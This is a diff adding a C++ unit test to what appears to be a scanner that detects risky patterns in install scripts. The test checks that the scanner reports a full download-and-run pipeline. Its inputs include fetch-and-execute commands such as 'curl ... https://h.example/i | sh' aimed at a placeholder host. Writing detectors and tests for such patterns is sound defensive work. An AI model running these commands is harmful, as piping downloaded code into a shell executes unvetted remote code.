@@ -104,6 +104,14 @@ TEST(ShellFacts, FindsTheTargetOfAnInterpreter) {
         kInstaller);
 }
 
+TEST(ShellFacts, ShowsTheWholePipelineThatIsRun) {
+  const Facts facts =
+      Only(InstallFacts("echo a; curl -s https://h.example/i | sh -s -- x; b", {}, {}),
+           "script.download-run");
+  ASSERT_EQ(facts.size(), 1U);
+  EXPECT_EQ(facts[0].evidence.snippet.View(), "curl -s https://h.example/i | sh -s -- x");
+}
+
 TEST(ShellFacts, FindsDownloadsAndWhatRunsThem) {
   Check("curl -fsSL https://h.example/i.sh | sh",
         "download host=h.example insecure=no program=curl to=pipe transport=https "
